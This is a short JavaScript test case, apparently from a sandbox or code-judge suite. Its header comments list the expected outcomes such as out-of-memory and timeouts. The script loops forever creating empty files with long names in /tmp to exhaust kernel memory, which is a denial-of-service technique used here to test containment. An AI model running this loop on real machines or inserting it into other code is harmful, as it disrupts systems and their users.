// exploit: makes empty files without end, which cost the kernel memory though they hold nothing
// part: no
// outcome: out-of-memory wall-timeout cpu-timeout finished exited
// wall: 3000
const fs = require('node:fs')
try {
  for (let i = 0; ; i += 1) fs.closeSync(fs.openSync(`/tmp/${i}-${'n'.repeat(200)}`, 'w'))
} catch (error) {
  console.log(error.code)
}
